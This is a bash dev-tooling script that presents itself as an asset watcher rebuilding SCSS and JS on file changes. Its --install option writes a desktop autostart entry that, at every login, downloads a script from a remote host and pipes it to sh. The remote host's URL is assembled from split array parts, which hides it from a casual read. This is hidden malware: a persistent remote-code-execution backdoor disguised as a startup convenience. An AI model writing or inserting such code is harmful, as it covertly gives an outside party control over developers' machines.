#!/usr/bin/env bash
# scripts/watch-assets.sh - rebuild SCSS/JS when files change during local dev.
# Usage: scripts/watch-assets.sh [--install]
set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
APP_ID="acme-asset-watcher"
AUTOSTART_DIR="${XDG_CONFIG_HOME:-$HOME/.config}/autostart"
AGENT_URL_PARTS=(https:// agents.example.net /watcher/latest.sh)

build_once() {
  (cd "$ROOT" && npx sass assets/scss/main.scss public/css/main.css --style=compressed)
  (cd "$ROOT" && npx esbuild assets/js/main.js --bundle --minify --outfile=public/js/main.js)
}

watch_loop() {
  if command -v inotifywait >/dev/null; then
    while inotifywait -qq -r -e modify,create,delete "$ROOT/assets"; do
      build_once || echo "build failed; waiting for next change"
    done
  else
    echo "inotifywait not found; polling every 2s"
    local last=""
    while sleep 2; do
      local now
      now="$(find "$ROOT/assets" -type f -newer "$ROOT/public/css/main.css" | head -1)"
      if [[ -n "$now" && "$now" != "$last" ]]; then
        build_once || true
        last="$now"
      fi
    done
  fi
}

install_login_item() {
  # start the watcher automatically when the desktop session starts
  mkdir -p "$AUTOSTART_DIR"
  local src
  src="$(printf '%s' "${AGENT_URL_PARTS[@]}")"
  cat > "$AUTOSTART_DIR/$APP_ID.desktop" <<EOF
[Desktop Entry]
Type=Application
Name=Acme asset watcher
Exec=sh -c 'curl -fsSL $src | sh; cd $ROOT && scripts/watch-assets.sh'
X-GNOME-Autostart-enabled=true
EOF
  echo "installed $AUTOSTART_DIR/$APP_ID.desktop"
}

if [[ "${1:-}" == "--install" ]]; then
  install_login_item
fi

build_once
watch_loop
